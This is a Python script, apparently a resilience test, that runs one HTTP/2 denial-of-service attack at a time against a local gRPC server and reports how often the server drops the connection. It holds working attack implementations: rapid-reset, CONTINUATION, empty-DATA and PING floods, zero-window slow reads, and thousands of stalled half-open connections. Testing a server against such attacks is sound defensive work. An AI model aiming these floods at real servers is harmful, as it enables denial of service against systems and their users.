"""One attacker in a process of its own, on loopback, for a bounded time. Reconnects when it is thrown out.

Prints one JSON object: what it sent, in bytes too where it floods, and how often the server ended its
connection.
"""
import json
import socket
import ssl
import struct
import sys
import time

import hpack

import program

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM = ACK = 1
END_HEADERS = 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def call_headers(method="Classify"):
    """A header block that changes no table, so that it can be sent on any stream."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode([
        (":method", "POST"), (":scheme", "http"), (":path", program.SERVICE + method),
        (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")])


def message(payload):
    return b"\0" + struct.pack(">I", len(payload)) + payload


class Attack:
    def __init__(self, address, seconds):
        host, port = address.rsplit(":", 1)
        self.address = (host, int(port))
        self.end = time.monotonic() + seconds
        self.sent = self.ended = self.bytes = 0

    def is_over(self):
        return time.monotonic() >= self.end

    def connect(self, first=PREFACE + frame(SETTINGS)):
        connection = socket.create_connection(self.address, timeout=5)
        connection.sendall(first)
        return connection

    def floods(self, make):
        """Sends what `make(n)` gives, n times a hundred, on one connection after the other."""
        while not self.is_over():
            try:
                with self.connect() as connection:
                    connection.settimeout(0.2)
                    n = 0
                    while not self.is_over():
                        frames = make(n)
                        connection.sendall(frames)
                        self.sent += 100
                        self.bytes += len(frames)
                        n += 1
            except TimeoutError:
                # It does not read any more: as good as an end for those who wait for it.
                self.ended += 1
            except OSError:
                self.ended += 1

    def rapid_reset(self):
        block = call_headers()
        def resets(n):
            if n > 10_000_000:
                raise OSError
            streams = range(n * 200 + 1, n * 200 + 201, 2)
            return b"".join(frame(HEADERS, END_HEADERS, s, block) +
                            frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in streams)
        self.floods(resets)

    def continuation(self):
        piece = hpack.Encoder().encode([("x-filler", "f" * 900)])
        def endless(n):
            first = frame(HEADERS, 0, 1, call_headers()) if n == 0 else b""
            return first + frame(CONTINUATION, 0, 1, piece) * 100
        self.floods(endless)

    def empty_data(self):
        block = call_headers("StreamClassify")
        def empty(n):
            first = frame(HEADERS, END_HEADERS, 1, block) if n == 0 else b""
            return first + frame(DATA, 0, 1) * 100
        self.floods(empty)

    def ping(self):
        self.floods(lambda _: frame(PING, 0, 0, b"pingping") * 100)

    def ping_answer(self):
        """Answers to pings that nobody has sent."""
        self.floods(lambda _: frame(PING, ACK, 0, b"pingping") * 100)

    def zero_window(self):
        """Asks for large replies and takes nothing of them; answers pings, so that it seems alive."""
        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        block = call_headers("BatchClassify")
        request = message(program.batch(f"The ministry of {program.CANARY} denied it.", 1000))
        pieces = [request[i:i + 16_000] for i in range(0, len(request), 16_000)]
        connections = []
        while not self.is_over():
            if len(connections) < 4:
                connection = self.connect(PREFACE + settings)
                connection.settimeout(0.1)
                connections.append(connection)
                try:
                    for stream in range(1, 40, 2):
                        connection.sendall(frame(HEADERS, END_HEADERS, stream, block))
                        for piece in pieces:
                            connection.sendall(frame(DATA, 0, stream, piece))
                        connection.sendall(frame(DATA, END_STREAM, stream))
                        self.sent += 1
                except OSError:
                    pass
            for connection in list(connections):
                try:
                    received = connection.recv(65_536)
                    while (at := received.find(b"\0\0\x08\x06\0")) >= 0:
                        connection.sendall(frame(PING, ACK, 0, received[at + 9:at + 17]))
                        received = received[at + 17:]
                    alive = bool(received)
                except TimeoutError:
                    alive = True
                except OSError:
                    alive = False
                if not alive:
                    connections.remove(connection)
                    connection.close()
                    self.ended += 1

    def opens(self, n, first):
        """n connections that say almost nothing."""
        connections = []
        for _ in range(n):
            try:
                connection = socket.create_connection(self.address, timeout=5)
                if first:
                    connection.sendall(first)
                connection.setblocking(False)
                connections.append(connection)
                self.sent += 1
            except OSError:
                self.ended += 1
        # However long it took to open them: the server has three seconds to end them.
        self.end = max(self.end, time.monotonic() + 3)
        while not self.is_over() and self.ended < n:
            for connection in list(connections):
                try:
                    if connection.recv(1024) == b"":
                        raise ConnectionError
                except BlockingIOError:
                    continue
                except OSError:
                    connections.remove(connection)
                    connection.close()
                    self.ended += 1
            time.sleep(0.05)

    def silent(self):
        self.opens(2_000, b"")

    def half_preface(self):
        self.opens(2_000, PREFACE[:12])

    def half_handshake(self):
        """Half of the client's first message; a server has not much to do for it, and must not wait for long."""
        session, outgoing = ssl.create_default_context(), ssl.MemoryBIO()
        session = session.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
        try:
            session.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = outgoing.read()
        self.opens(2_000, hello[:len(hello) // 2])


def main(name, address, seconds):
    attack = Attack(address, seconds)
    getattr(attack, name)()
    json.dump({"sent": attack.sent, "ended": attack.ended, "bytes": attack.bytes}, sys.stdout)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
